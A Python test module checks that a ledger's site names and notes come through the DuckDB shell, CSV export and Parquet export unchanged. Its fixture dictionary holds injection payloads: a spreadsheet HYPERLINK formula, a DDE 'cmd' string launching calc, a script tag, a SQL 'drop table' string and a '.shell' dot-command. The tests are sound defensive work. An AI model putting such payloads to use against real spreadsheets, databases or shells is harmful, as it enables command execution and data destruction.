"""Names and notes of a ledger are text: in the shell, in CSV that it writes, in Parquet."""

from __future__ import annotations

import csv
import json
import subprocess
from typing import TYPE_CHECKING, Any

import polars as pl
import pytest

from gigaledger.build import build_file
from gigaledger.ledger import open_ledger
from ledgers import write_ledger

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

pytestmark = pytest.mark.slow

NAMES = {
    "formula": '=HYPERLINK("https://example.org/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script> & \"quotes\" 'single'",
    "line": "two\nlines",
    "right": "\u202eright to left\u202c\u200f",
    "sql": "Robert'); drop table site; --",
    "dot": ".shell echo harm",
}


@pytest.fixture(scope="module")
def ledger_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    sites = [
        {"site_id": f"evil-{key}", "name": name, "note": name, "operator_id": "cloud"} for key, name in NAMES.items()
    ]
    return write_ledger(tmp_path_factory.mktemp("evil") / "ledger", site=sites)


@pytest.fixture(scope="module")
def file(ledger_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("built") / "it's a ledger.duckdb"
    build_file(path, datasets=ledger_folder)
    return path


QUERY = "select site_id, name, note from site where site_id like 'evil-%' order by site_id"


def as_named(rows: list[dict[str, Any]]) -> None:
    assert {row["site_id"].removeprefix("evil-"): row["name"] for row in rows} == NAMES
    assert all(row["note"] == row["name"] for row in rows)


@pytest.mark.needs("duckdb")
def test_the_shell_shows_the_names_as_they_are(file: Path, find_program: Callable[[str], str]) -> None:
    done = subprocess.run(
        [find_program("duckdb"), "-readonly", "-json", str(file), "-c", QUERY],
        capture_output=True,
        check=True,
        encoding="utf-8",
    )
    as_named(json.loads(done.stdout))


@pytest.mark.needs("duckdb")
def test_csv_of_the_shell_holds_the_names_as_they_are(
    file: Path, find_program: Callable[[str], str], tmp_path: Path
) -> None:
    target = tmp_path / "sites.csv"
    subprocess.run(
        [find_program("duckdb"), "-readonly", str(file), "-c", f"copy ({QUERY}) to '{target}'"],
        capture_output=True,
        check=True,
    )
    with target.open(encoding="utf-8", newline="") as opened:
        as_named(list(csv.DictReader(opened)))


def test_parquet_holds_the_names_as_they_are(ledger_folder: Path, tmp_path: Path) -> None:
    open_ledger(ledger_folder).export(tmp_path / "it's a star")
    sites = pl.read_parquet(tmp_path / "it's a star" / "dim_site.parquet")
    as_named([row for row in sites.to_dicts() if row["site_id"].startswith("evil-")])
